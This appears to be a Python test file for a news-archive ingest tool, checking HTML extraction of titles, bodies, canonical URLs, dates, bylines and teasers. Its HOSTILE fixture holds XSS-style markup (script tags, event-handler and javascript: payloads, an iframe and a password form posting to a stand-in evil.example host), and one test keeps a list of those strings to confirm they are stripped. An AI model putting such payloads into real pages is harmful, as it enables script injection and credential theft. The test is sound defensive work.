"""Saved pages: trafilatura's article with our fixes, and hostile markup made inert."""

import datetime as dt
import gzip

from archive.ingest.authors import split_authors
from archive.ingest.html import extract_page
from archive.models import Article, Capture
from tests.ingest.conftest import PARAGRAPHS, page

HOSTILE = page(
    "Réforme des retraites : le texte présenté en conseil des ministres",
    [PARAGRAPHS[0],
     PARAGRAPHS[1] + " <a href=\"javascript:alert('link')\">Lire le communiqué</a>.",
     "<span onmouseover=\"alert('hover')\">" + PARAGRAPHS[2] + "</span>",
     PARAGRAPHS[3] + "<img src=x onerror=\"alert('img')\">"],
    head="<style>body{background:url(javascript:alert('css'))}</style>"
         "<script>alert('head')</script>",
    extra="<script>document.write('injected')</script>"
          "<iframe src=\"https://evil.example/frame\">iframe fallback text</iframe>"
          "<form action=\"https://evil.example/steal\"><input name=pw>"
          "<button>Envoyer le formulaire</button></form>"
          "<div style=\"position:fixed\" onclick=\"steal()\">" + PARAGRAPHS[0][:80] + "</div>",
)


def test_hostile_markup_never_reaches_stored_text(write_file, run_import):
    report = run_import(write_file("hostile.html", HOSTILE))
    article = Article.objects.get(pk=report.created[0].article_id)
    stored = " ".join([article.title, article.body, article.summary,
                       *Capture.objects.values_list("body", flat=True)])
    for bad in ("<script", "alert(", "javascript:", "onerror", "onclick", "onmouseover",
                "<iframe", "iframe fallback", "<form", "Envoyer le formulaire", "<style",
                "background:", "document.write", "steal", "<"):
        assert bad not in stored, bad
    assert "Lire le communiqué" in article.body


def test_stored_page_body_is_paragraphs_separated_by_blank_lines(write_file, run_import):
    report = run_import(write_file("page.html", page("Un titre", PARAGRAPHS)))
    article = Article.objects.get(pk=report.created[0].article_id)
    assert article.body.split("\n\n") == PARAGRAPHS


def test_title_repeated_as_first_paragraph_is_dropped():
    result = extract_page(page("Un titre", PARAGRAPHS))
    assert result.title == "Un titre"
    assert not result.body.startswith("Un titre")


def test_in_text_teasers_are_dropped():
    paragraphs = [PARAGRAPHS[0], "READ MORE: Another story about pensions",
                  PARAGRAPHS[1], "China furious at Macron for protest jibe [INSIGHT]",
                  PARAGRAPHS[2], "Lire aussi : la réforme expliquée en cinq points",
                  PARAGRAPHS[3]]
    body = extract_page(page("Un titre", paragraphs)).body
    assert body.split("\n\n") == PARAGRAPHS


def test_canonical_link_gives_the_identity():
    head = '<link rel="canonical" href="http://www.example.org/politique/reforme/?utm_source=x">'
    result = extract_page(page("Un titre", PARAGRAPHS, head=head))
    assert result.canonical_url == "https://www.example.org/politique/reforme"


def test_url_hint_is_used_when_the_page_has_no_canonical_link():
    result = extract_page(page("Un titre", PARAGRAPHS), url="https://example.org/a/b/")
    assert result.canonical_url == "https://example.org/a/b"


def test_canonical_link_to_the_home_page_gives_way_to_the_hint():
    head = '<link rel="canonical" href="https://example.org/">'
    result = extract_page(page("Un titre", PARAGRAPHS, head=head),
                          url="https://example.org/politique/reforme")
    assert result.canonical_url == "https://example.org/politique/reforme"


def test_date_from_page_metadata_is_exact():
    head = '<meta property="article:published_time" content="2019-11-19T10:00:00Z">'
    result = extract_page(page("Un titre", PARAGRAPHS, head=head))
    assert result.published_on == dt.date(2019, 11, 19)
    assert result.date_estimated is False


def test_declared_language_wins():
    assert extract_page(page("Un titre", PARAGRAPHS)).language == "fr"


def test_gzipped_page_is_read(write_file, run_import):
    data = gzip.compress(page("Un titre", PARAGRAPHS).encode())
    report = run_import(write_file("saved/page.html.gz", data))
    assert len(report.created) == 1


def test_page_without_text_fails_with_a_reason(write_file, run_import):
    path = write_file("empty.html", "<html><body><nav>Menu</nav></body></html>")
    report = run_import(path)
    assert report.failed[0].label == str(path)
    assert "no article text" in report.failed[0].reason


def test_publication_comes_from_the_site_name_and_host(write_file, run_import):
    head = ('<meta property="og:site_name" content="Le Journal">'
            '<link rel="canonical" href="https://www.lejournal.example/politique/a1">')
    first = run_import(write_file("a.html", page("Premier", PARAGRAPHS, head=head)))
    head2 = head.replace("a1", "a2").replace("Le Journal", "LeJournal.example")
    second = run_import(write_file("b.html", page("Second", PARAGRAPHS[1:], head=head2)))
    a = Article.objects.get(pk=first.created[0].article_id)
    b = Article.objects.get(pk=second.created[0].article_id)
    assert a.publication.name == "Le Journal"
    assert a.publication.homepage == "https://lejournal.example/"
    assert b.publication == a.publication  # a site name that is only the host: the host


def test_authors_cleanup_fixes_extractor_bylines():
    assert split_authors("LISA MASCARO; MARY CLARE JALONICK; ERIC TUCKER Associated Press") == [
        "Lisa Mascaro", "Mary Clare Jalonick", "Eric Tucker"]
    assert split_authors("Analysis by Chris Cillizza; CNN Editor-at-large") == ["Chris Cillizza"]
    assert split_authors("Phil Helsel is a reporter") == ["Phil Helsel"]
    assert split_authors("The Russian; Syrian defense ministries") == []
    assert split_authors("STEVE PEOPLES; AP National Political Writer") == ["Steve Peoples"]
    assert split_authors(["Dominique de Villepin", "dominique de villepin"]) == [
        "Dominique de Villepin"]


def test_canonical_link_to_the_home_page_is_ignored_without_a_hint(write_file, run_import):
    head = '<link rel="canonical" href="https://example.org/">'
    report = run_import(write_file("a.html", page("Un", PARAGRAPHS, head=head)),
                        write_file("b.html", page("Deux", PARAGRAPHS[1:], head=head)))
    assert len(report.created) == 2
    assert Article.objects.filter(canonical_url__isnull=True).count() == 2
